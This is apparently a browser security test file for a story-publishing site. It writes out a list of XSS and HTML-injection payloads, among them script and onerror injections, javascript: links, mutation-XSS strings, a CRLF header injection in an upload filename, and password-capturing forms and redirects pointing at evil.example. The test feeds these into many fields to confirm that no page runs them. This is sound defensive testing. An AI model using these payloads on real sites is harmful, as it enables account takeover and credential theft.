// What people write is text and never program: every field filled with markup, every page that shows it opened in a browser.
import assert from 'node:assert/strict';
import {spawnSync} from 'node:child_process';
import {writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {after, before, test} from 'node:test';
import {launch} from '../browser/support/browser.mjs';
import {binary} from '../browser/support/site.mjs';
import {Somebody, comment, makeWork, publish, saveDraft, startUnlimited} from './support.mjs';
import {guardedPage, look} from './watch.mjs';

const attacks = [
  '<script>window.pwned=1</script>',
  '"><img src=x onerror=window.pwned=1>',
  "'><svg onload=window.pwned=1>",
  '</title></textarea></script><script>window.pwned=1</script>',
  '<a href="javascript:window.pwned=1" id=trap>x</a>',
  '[x](javascript:window.pwned=1)',
  '[x](<java\nscript:window.pwned=1>) ![x](x"onerror="window.pwned=1)',
  '[x](/a "x\\" onmouseover=window.pwned=1")',
  '<https://a"onclick=window.pwned=1>',
  '" autofocus onfocus=window.pwned=1 x="',
  '<div hx-get=/sign-out hx-trigger=load hx-on:load=window.pwned=1 data-hx-get=/sign-out>x</div>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<form action=https://evil.example/><input name=password></form>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/a.css><style>@import "https://evil.example/b.css"</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<img src=https://evil.example/pixel.png>',
  '&#60;script&#62;window.pwned=1&#60;/script&#62;',
  '${window.pwned=1}{{constructor.constructor("window.pwned=1")()}}',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/c)">over</p>',
  '<template><script>window.pwned=1</script></template><dialog open>x</dialog><!--[if IE]><script>window.pwned=1</script>',
  '%lt;script%gt; \u202E gnp.exe \u2028 \uFEFF <\u200Bscript>',
];
const all = attacks.join('\n\n');

// An adult: what a minor writes with addresses of other sites in it waits, and nobody would see it.
let site, browser, author;
const paths = new Set(['/', '/read', '/write', '/library', '/settings', '/settings/profile', '/settings/account', '/settings/tokens', '/settings/sessions', '/settings/reading',
  '/people/mr-okafor', '/people/evil-one', '/works/new', '/dev/mail']);
let open;

before(async () => {
  site = await startUnlimited();
  author = await new Somebody(site).signIn('mr-okafor');
  const pieces = [];
  for (let i = 0; i < attacks.length; i += 3) pieces.push(attacks.slice(i, i + 3));
  for (const some of pieces) {
    const at = await makeWork(author, {title: some[0], summary: all.slice(0, 1900), tags: some.map((one) => one.replaceAll(',', '').slice(0, 48)).join(','), warnings_said: 'some', warning_other: some.at(-1).slice(0, 120)},
      {title: some.at(-1), text: all, notes_before: all, notes_after: all});
    await publish(author, at);
    open ??= at;
    await saveDraft(author, at, {title: some[0], text: `${all}\n\nchanged`, notes_before: '', notes_after: ''});
    if (some === pieces[0]) {
      for (const attack of attacks) await comment(author, at, attack);
      const chapter = `/works/${at.work}/chapters/${at.chapter}`;
      for (const end of ['', '/edit', '/comments', '/comments?on=chapter', '/revisions', '/revisions/1', '/delete']) paths.add(chapter + end);
    }
    for (const end of ['', '/edit', '/chapters', '/delete']) paths.add(`/works/${at.work}${end}`);
    paths.add(`/works/${at.work}/chapters/${at.chapter}`);
  }
  for (const [, tag] of (await author.page(`/works/${open.work}`)).matchAll(/href="(\/tags\/[^"]+)"/g)) paths.add(tag.replaceAll('&amp;', '&'));
  for (const attack of attacks) {
    await author.post('/settings/tokens', {name: attack.slice(0, 50), days: '30', read: '1'});
    await author.post('/settings/profile', {display_name: attack.slice(0, 40), bio: all.slice(0, 900), language: 'en', listed: '1'});
  }
  const named = await author.post('/settings/profile', {display_name: `"><img src onerror=pwned=1>`, bio: all.slice(0, 900), language: 'en', listed: '1'});
  assert.equal(named.status, 303, 'a name of markup is a name');
  const form = new FormData();
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  form.append('cover', new Blob([png], {type: 'image/png'}), `"><img src=x onerror=window.pwned=1>\r\nSet-Cookie: a=b.png`);
  const uploaded = await author.fetch(`/works/${open.work}/cover`, {method: 'POST', body: form, headers: {origin: site.url, 'x-csrf-token': await author.token()}});
  assert.equal(uploaded.status, 303);
  // What came from a file: the byline above all.
  const file = join(site.data, 'import.json');
  writeFileSync(file, JSON.stringify({id: attacks[1], title: attacks[3], author: attacks[1], year: 1900, language: 'en', licence: 'CC0 1.0', subjects: attacks.slice(0, 5).map((one) => one.slice(0, 48)), summary: all.slice(0, 1900), chapters: [{n: 1, title: attacks[2], text: attacks.join('\n\n')}]}));
  const imported = spawnSync(binary, ['import', 'works', file, '--data', site.data, '--owner', 'shelf-of-books'], {encoding: 'utf8', env: {...process.env, BRAID_DEVELOPMENT: 'true'}});
  assert.equal(imported.status, 0, imported.stderr);
  for (const [, path] of (await author.page('/read')).matchAll(/href="(\/works\/[0-9a-z]+)"/g)) paths.add(path);
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await site?.stop();
});

for (const viewer of ['mr-okafor', 'abi', null]) {
  test(`no page runs what was written, seen by ${viewer ?? 'a visitor'}`, {timeout: 180_000}, async () => {
    const page = await guardedPage(browser, site, viewer);
    let seen = 0;
    for (const path of paths) {
      const answer = await page.goto(site.url + path, {waitUntil: 'load'});
      if (answer.status() >= 500) page.wrong.push(`${path}: ${answer.status()}`);
      if (answer.status() === 200) seen += 1;
      await look(page, path);
    }
    assert.deepEqual([...new Set(page.wrong)], []);
    assert.ok(seen > 10);
    await page.context().close();
  });
}

test('nor does a preview, a comment that comes in while the page is open, or a trap that is clicked', {timeout: 90_000}, async () => {
  const page = await guardedPage(browser, site, 'mr-okafor');
  const chapter = `/works/${open.work}/chapters/${open.chapter}`;
  await page.goto(site.url + chapter);
  const before = await page.evaluate(() => document.querySelectorAll('a').length);
  assert.ok(before > 0);
  for (const attack of attacks) await comment(author, open, attack);
  await page.waitForTimeout(500);
  await look(page, 'live');
  for (const link of await page.locator('main .prose a').all()) assert.doesNotMatch((await link.getAttribute('href')) ?? '', /script:/i);
  const preview = await author.fetch(`${chapter}/preview`, {
    method: 'POST', headers: {'content-type': 'application/x-www-form-urlencoded', origin: site.url, 'hx-request': 'true', 'x-csrf-token': await author.token()},
    body: new URLSearchParams({title: attacks[0], text: all, notes_before: all, notes_after: all}),
  });
  assert.equal(preview.status, 200);
  const html = await preview.text();
  await page.goto(`${site.url}/settings`);
  await page.evaluate((text) => { document.body.innerHTML = text; }, html);
  await page.waitForTimeout(200);
  await look(page, 'preview');
  assert.deepEqual([...new Set(page.wrong)], []);
  await page.context().close();
});

test('pictures and answers for programs run nothing when opened by themselves', async () => {
  const page = await guardedPage(browser, site, 'mr-okafor');
  for (const path of [`/covers/${open.work}.svg`, `/covers/${open.work}.webp`, '/api/v1/works', `/api/v1/works/${open.work}`]) {
    const answer = await page.goto(site.url + path);
    assert.ok(answer.status() < 500, path);
    assert.match(answer.headers()['content-security-policy'], /default-src 'none'/);
    assert.equal(answer.headers()['x-content-type-options'], 'nosniff');
    assert.ok(!(await page.evaluate(() => window.pwned)), path);
  }
  // What the browser itself brings is refused too: its viewer's inline style, and on a slow machine the icon of the page before.
  const own = (one) => /inline style/i.test(one) || one.startsWith(`Loading the image '${site.url}/assets/favicon.`);
  assert.deepEqual(page.wrong.filter((one) => !own(one)), []);
  await page.context().close();
});
